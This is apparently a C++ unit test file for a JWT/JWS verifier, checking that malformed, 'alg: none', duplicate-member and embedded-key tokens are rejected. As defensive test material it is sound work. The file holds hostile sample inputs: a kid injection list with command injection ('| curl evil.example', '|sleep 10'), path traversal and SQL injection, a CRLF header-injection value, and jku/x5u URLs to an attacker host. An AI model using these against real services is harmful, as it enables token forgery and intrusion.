// Token structure and header rules (security.md A1, A2, A5-A7, A11-A15, A22).

#include "base64url.h"
#include "jws.h"
#include "unit.h"

using edge_auth::Alg;
using edge_auth::base64url_encode;
using edge_auth::KeySet;
using edge_auth::Status;

namespace {

const test::Keys &K()
{
    return test::keys();
}

KeySet es_keys()
{
    return unit::keyset(unit::jwks({test::public_jwk(K().p256, "\"kid\":\"k1\"")}));
}

// A token with an arbitrary header, signed correctly with the P-256 key (ES256).
std::string es_token(const std::string &header, const std::string &claims = unit::good_claims())
{
    return test::make_token(header, claims, Alg::ES256, unit::signer(K().p256));
}

Status check(const std::string &tok, std::string *detail = nullptr)
{
    static KeySet keys = es_keys();
    return unit::verify(tok, keys, unit::default_policy(), unit::kNow, nullptr, detail);
}

std::string good()
{
    return es_token("{\"alg\":\"ES256\",\"kid\":\"k1\"}");
}

} // namespace

START_TEST(baseline_verifies)
{
    ck_assert_status(check(good()), Status::Ok);
}
END_TEST

START_TEST(segment_structure)
{
    std::string t = good();
    size_t d1 = t.find('.'), d2 = t.rfind('.');
    std::string h = t.substr(0, d1), p = t.substr(d1 + 1, d2 - d1 - 1), s = t.substr(d2 + 1);
    ck_assert_status(check(h), Status::Malformed);
    ck_assert_status(check(h + "." + p), Status::Malformed);
    ck_assert_status(check(t + "."), Status::Malformed);
    ck_assert_status(check(t + "." + s), Status::Malformed);
    std::string detail;
    ck_assert_status(check(h + "." + p + "." + s + "." + s + "." + s, &detail), Status::Malformed);   // JWE shape
    ck_assert_msg(detail.find("more than 3") != std::string::npos, "%s", detail.c_str());
    ck_assert_status(check(h + "." + p + ".", &detail), Status::Malformed);
    ck_assert_msg(detail.find("empty signature") != std::string::npos, "%s", detail.c_str());
    ck_assert_status(check(h + ".." + s, &detail), Status::Malformed);
    ck_assert_msg(detail.find("detached") != std::string::npos, "%s", detail.c_str());
    ck_assert_status(check("." + p + "." + s), Status::Malformed);
    ck_assert_status(check(".."), Status::Malformed);
    ck_assert_status(check(""), Status::Malformed);
    ck_assert_status(check("."), Status::Malformed);
}
END_TEST

START_TEST(size_cap_before_decoding)
{
    // Garbage over the cap is token_too_large, not malformed: nothing was decoded.
    std::string junk(8193, '!');
    ck_assert_status(check(junk), Status::TokenTooLarge);
    std::string at_cap(8192, '!');
    ck_assert_status(check(at_cap), Status::Malformed);
    // A real token over a smaller cap.
    std::string t = good();
    edge_auth::PolicyConfig small = unit::default_policy();
    small.max_token_size = t.size() - 1;
    static KeySet keys = es_keys();
    ck_assert_status(unit::verify(t, keys, small), Status::TokenTooLarge);
    small.max_token_size = t.size();
    ck_assert_status(unit::verify(t, keys, small), Status::Ok);
    // A big but allowed token (claims padding) still verifies through the heap buffer.
    std::string claims = "{\"exp\":" + std::to_string(unit::kNow + 60) + ",\"pad\":\"" + std::string(9000, 'p') + "\"}";
    std::string bigtok = es_token("{\"alg\":\"ES256\",\"kid\":\"k1\"}", claims);
    small.max_token_size = 1 << 20;
    ck_assert_status(unit::verify(bigtok, keys, small), Status::Ok);
}
END_TEST

START_TEST(non_canonical_base64_anywhere)
{
    std::string t = good();
    size_t d1 = t.find('.'), d2 = t.rfind('.');
    std::string h = t.substr(0, d1), p = t.substr(d1 + 1, d2 - d1 - 1), s = t.substr(d2 + 1);
    const std::string variants[] = {
        h + "=." + p + "." + s,
        h + "." + p + "=." + s,
        h + "." + p + "." + s + "=",
        h + "." + p + "." + s + "=junk",
        h + "." + p + "." + s + "==",
        h + " ." + p + "." + s,
        h + "." + p + "." + s + " ",
        h + "." + p + ".\n" + s,
        h + "." + p + "." + s.substr(0, 10) + "+" + s.substr(11),
        h + "." + p + "." + s.substr(0, 10) + "/" + s.substr(11),
        h + "." + p + "." + s.substr(0, s.size() - 1) + "?",
    };
    for (const std::string &v : variants) {
        std::string detail;
        ck_assert_msg(check(v, &detail) == Status::Malformed, "accepted or misreported: %s (%s)", v.c_str(),
            detail.c_str());
    }
    // Non-zero unused bits in the last character of the signature: the ES256 signature is 64
    // bytes = 86 characters, the last one carries 4 unused bits.
    std::string bits = s;
    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    size_t idx = std::string(alphabet).find(bits.back());
    bits.back() = alphabet[idx | 1];
    if (bits != s) {
        ck_assert_status(check(h + "." + p + "." + bits), Status::Malformed);
    }
}
END_TEST

START_TEST(header_must_be_an_object)
{
    ck_assert_status(check(es_token("[]")), Status::Malformed);
    ck_assert_status(check(es_token("\"ES256\"")), Status::Malformed);
    ck_assert_status(check(es_token("")), Status::Malformed);   // empty header segment
    ck_assert_status(check(es_token("{\"alg\":\"ES256\"")), Status::Malformed);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\"}garbage")), Status::Malformed);
    // Duplicate alg (F8): the last-wins reading would see "none".
    std::string detail;
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"alg\":\"none\"}"), &detail), Status::Malformed);
    ck_assert_msg(detail.find("duplicate") != std::string::npos, "%s", detail.c_str());
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"\\u0061lg\":\"ES256\"}")), Status::Malformed);
    // Depth cap of the header.
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"x\":" + std::string(10, '[') + std::string(10, ']') + "}")),
        Status::Malformed);
}
END_TEST

START_TEST(alg_none_family)
{
    std::string claims = base64url_encode(unit::good_claims());
    for (const char *alg : {"none", "None", "NONE", "nOnE"}) {
        std::string h = base64url_encode(std::string("{\"alg\":\"") + alg + "\"}");
        std::string detail;
        ck_assert_status(check(h + "." + claims + ".", &detail), Status::Malformed);   // empty signature
        // With the original signature left on.
        std::string t = good();
        ck_assert_status(check(h + "." + claims + t.substr(t.rfind('.')), &detail), Status::AlgNotAllowed);
        ck_assert_msg(detail.find(alg) != std::string::npos, "%s", detail.c_str());
    }
}
END_TEST

START_TEST(missing_or_odd_alg)
{
    ck_assert_status(check(es_token("{}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"kid\":\"k1\"}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":null}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":[\"ES256\"]}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":256}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":{\"name\":\"ES256\"}}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256 \"}")), Status::AlgNotAllowed);
    ck_assert_status(check(es_token("{\"alg\":\"es256\"}")), Status::AlgNotAllowed);
    ck_assert_status(check(es_token("{\"alg\":\"\"}")), Status::AlgNotAllowed);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\\u0000\"}")), Status::Malformed);   // NUL refused by parser
    ck_assert_status(check(es_token("{\"alg\":\"ES224\"}")), Status::AlgNotAllowed);
    ck_assert_status(check(es_token("{\"alg\":\"HS256\"}")), Status::AlgNotAllowed);   // not in the default list
    // Hostile alg text is escaped in the detail line.
    std::string detail;
    ck_assert_status(check(es_token("{\"alg\":\"x\\r\\nSet-Cookie: a\"}"), &detail), Status::AlgNotAllowed);
    for (char c : detail) {
        ck_assert_msg(static_cast<unsigned char>(c) >= 0x20, "control byte in detail: %s", detail.c_str());
    }
    ck_assert_status(check(es_token("{\"alg\":\"" + std::string(5000, 'A') + "\"}"), &detail), Status::AlgNotAllowed);
    ck_assert_msg(detail.size() < 200, "detail not truncated: %zu", detail.size());
}
END_TEST

START_TEST(crit_enc_zip_b64)
{
    const char *headers[] = {
        "{\"alg\":\"ES256\",\"crit\":[\"urn:x\"],\"urn:x\":1}",
        "{\"alg\":\"ES256\",\"crit\":[]}",
        "{\"alg\":\"ES256\",\"crit\":\"exp\"}",
        "{\"alg\":\"ES256\",\"crit\":[\"kid\"],\"kid\":\"k1\"}",
        "{\"alg\":\"ES256\",\"crit\":null}",
        "{\"alg\":\"ES256\",\"enc\":\"A256GCM\"}",
        "{\"alg\":\"ES256\",\"zip\":\"DEF\"}",
        "{\"alg\":\"ES256\",\"b64\":false,\"crit\":[\"b64\"]}",
        "{\"alg\":\"ES256\",\"b64\":true}",
    };
    for (const char *h : headers) {
        ck_assert_msg(check(es_token(h)) == Status::BadHeader, "accepted: %s", h);
    }
}
END_TEST

START_TEST(kid_rules)
{
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":\"\"}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":1}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":{}}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":null}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":[\"k1\"]}")), Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":\"" + std::string(257, 'k') + "\"}")),
        Status::BadHeader);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"kid\":\"" + std::string(256, 'k') + "\"}")),
        Status::UnknownKey);
    // jwt_tool's kid injection playbook: opaque strings that match nothing.
    for (const char *kid : {"../../../../../../dev/null", "/dev/null", "/invalid_path", "|sleep 10",
             "| curl evil.example", "x' UNION SELECT '1';--", "k1\\u0000", "k1%00", "k1\\r\\nX: y", "K1", " k1"}) {
        std::string detail;
        Status s = check(es_token(std::string("{\"alg\":\"ES256\",\"kid\":\"") + kid + "\"}"), &detail);
        ck_assert_msg(s == Status::UnknownKey || s == Status::Malformed, "kid %s: %s", kid,
            edge_auth::status_reason(s));
        for (char c : detail) {
            ck_assert(static_cast<unsigned char>(c) >= 0x20);
        }
    }
}
END_TEST

START_TEST(typ_must_be_a_string)
{
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"typ\":\"JWT\"}")), Status::Ok);
    ck_assert_status(check(es_token("{\"alg\":\"ES256\",\"typ\":1}")), Status::BadHeader);
}
END_TEST

START_TEST(embedded_keys_are_never_used)
{
    // The attacker signs with their own key and ships it in the header (jwk, x5c), or points at
    // it (jku, x5u). The configured key set does not hold it: the signature cannot verify.
    EVP_PKEY *attacker = test::generate_ec("P-256");
    std::string jwk = test::public_jwk(attacker, "\"kid\":\"k1\"");
    test::SignKey ak = unit::signer(attacker);
    const std::string headers[] = {
        "{\"alg\":\"ES256\",\"kid\":\"k1\",\"jwk\":" + jwk + "}",
        "{\"alg\":\"ES256\",\"jwk\":" + jwk + "}",
        "{\"alg\":\"ES256\",\"kid\":\"k1\",\"jku\":\"https://evil.example/jwks\"}",
        "{\"alg\":\"ES256\",\"kid\":\"k1\",\"x5u\":\"https://evil.example/cert\"}",
        "{\"alg\":\"ES256\",\"kid\":\"k1\",\"x5c\":[\"MIIB\"]}",
    };
    for (const std::string &h : headers) {
        ck_assert_status(check(test::make_token(h, unit::good_claims(), Alg::ES256, ak)), Status::BadSignature);
    }
    // The same members on a token signed by the real key change nothing: they are ignored.
    for (const std::string &h : headers) {
        ck_assert_status(check(es_token(h)), Status::Ok);
    }
    EVP_PKEY_free(attacker);
}
END_TEST

START_TEST(payload_checked_only_after_signature)
{
    std::string h = "{\"alg\":\"ES256\",\"kid\":\"k1\"}";
    // Signed, but not a JSON object.
    ck_assert_status(check(es_token(h, "foo")), Status::Malformed);
    ck_assert_status(check(es_token(h, "[1,2]")), Status::Malformed);
    ck_assert_status(check(es_token(h, "\"x\"")), Status::Malformed);
    std::string detail;
    ck_assert_status(check(es_token(h, "{\"sub\":\"alice\",\"sub\":\"admin\",\"exp\":1900000000}"), &detail),
        Status::Malformed);
    ck_assert_msg(detail.find("payload") != std::string::npos, "%s", detail.c_str());
    ck_assert_status(check(es_token(h, "{\"sub\":\"alice\",\"\\u0073ub\":\"admin\",\"exp\":1900000000}")),
        Status::Malformed);
    // Not signed and not JSON: the signature failure is what is reported.
    std::string t = es_token(h, "foo");
    std::string forged = t.substr(0, t.find('.') + 1) + base64url_encode("bar") + t.substr(t.rfind('.'));
    ck_assert_status(check(forged), Status::BadSignature);
}
END_TEST

START_TEST(jws_layer_without_claims)
{
    // The JWS layer alone accepts any payload bytes once the signature verifies.
    KeySet keys = es_keys();
    char buf[128];
    edge_auth::Detail d(buf, sizeof(buf));
    std::string t = es_token("{\"alg\":\"ES256\",\"kid\":\"k1\"}", "not json at all");
    ck_assert_status(edge_auth::verify_compact_jws(t, keys, edge_auth::kAllAlgBits, d), Status::Ok);
    edge_auth::Jws jws;
    ck_assert_status(jws.parse(t, edge_auth::kAllAlgBits, d), Status::Ok);
    ck_assert(jws.payload() == "not json at all");
    ck_assert(jws.has_kid());
    ck_assert(jws.kid() == "k1");
    ck_assert_str_eq(jws.alg().name, "ES256");
    ck_assert(jws.signing_input() == t.substr(0, t.rfind('.')));
    const edge_auth::Key *used = nullptr;
    ck_assert_status(jws.verify(keys, d, &used), Status::Ok);
    ck_assert_ptr_eq(used, &keys.at(0));
}
END_TEST

Suite *jws_suite()
{
    Suite *s = suite_create("jws");
    TCase *tc = tcase_create("structure and header");
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, baseline_verifies);
    tcase_add_test(tc, segment_structure);
    tcase_add_test(tc, size_cap_before_decoding);
    tcase_add_test(tc, non_canonical_base64_anywhere);
    tcase_add_test(tc, header_must_be_an_object);
    tcase_add_test(tc, alg_none_family);
    tcase_add_test(tc, missing_or_odd_alg);
    tcase_add_test(tc, crit_enc_zip_b64);
    tcase_add_test(tc, kid_rules);
    tcase_add_test(tc, typ_must_be_a_string);
    tcase_add_test(tc, embedded_keys_are_never_used);
    tcase_add_test(tc, payload_checked_only_after_signature);
    tcase_add_test(tc, jws_layer_without_claims);
    suite_add_tcase(s, tc);
    return s;
}

UNIT_SUITE(jws_suite);
